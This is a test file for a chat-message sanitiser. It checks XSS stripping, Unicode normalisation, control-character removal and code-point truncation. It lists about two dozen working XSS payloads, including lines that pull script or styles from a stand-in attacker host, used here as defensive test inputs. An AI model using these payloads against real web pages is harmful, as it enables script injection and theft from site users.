import { cleanChatText, textLength, truncateText } from './chat-text';

/** Classic XSS vectors (OWASP cheat sheet and friends): none may survive as markup. */
const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<!--<script>alert(1)</script>-->',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css";</style>',
  '<base href="//evil.example/">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
];

/** What markup looks like to a browser: `<` followed by a letter, `/`, `!` or `?`. */
const MARKUP = /<[a-zA-Z!/?]/;

describe(cleanChatText.name, () => {
  it.each(XSS_PAYLOADS)('leaves no markup in %j', (payload) => {
    const out = cleanChatText(payload);
    expect(out).not.toMatch(MARKUP);
    expect(out).not.toMatch(/onerror|onload|<script/i);
    // idempotent: cleaning the result again changes nothing
    expect(cleanChatText(out)).toBe(out);
  });

  it('keeps the text of harmless tags and drops script contents', () => {
    expect(cleanChatText('<b>Hello</b> <i>there</i><script>steal()</script>')).toBe('Hello there');
  });

  it('keeps plain text with <, >, & and quotes as plain text (not HTML-escaped)', () => {
    expect(cleanChatText(`Price < 5 € & "cheap" > 'free' <3`)).toBe(
      `Price < 5 € & "cheap" > 'free' <3`,
    );
  });

  it('normalises to NFC', () => {
    const decomposed = 'Cafe\u0301 de\u0301ja\u0300';
    expect(cleanChatText(decomposed)).toBe('Café déjà');
    expect(cleanChatText(decomposed)).toBe(cleanChatText(decomposed).normalize('NFC'));
  });

  it('removes control characters but keeps newlines and tabs, and trims', () => {
    expect(cleanChatText('  \u0000he\u0007llo\u001b[31m\r\nwor\tld\u007f\u0085\u202e  ')).toBe(
      'hello[31m\nwor\tld',
    );
  });

  it('answers empty text for markup-only, whitespace-only or control-only input', () => {
    for (const input of ['<script>x</script>', '   \n\t ', '\u0000\u0001', '<p> </p>', ''])
      expect(cleanChatText(input)).toBe('');
  });

  it('counts and truncates by code points', () => {
    expect(textLength('😀😀a')).toBe(3);
    expect(truncateText('😀😀😀😀', 3)).toBe('😀😀…');
    expect(truncateText('short', 10)).toBe('short');
  });
});
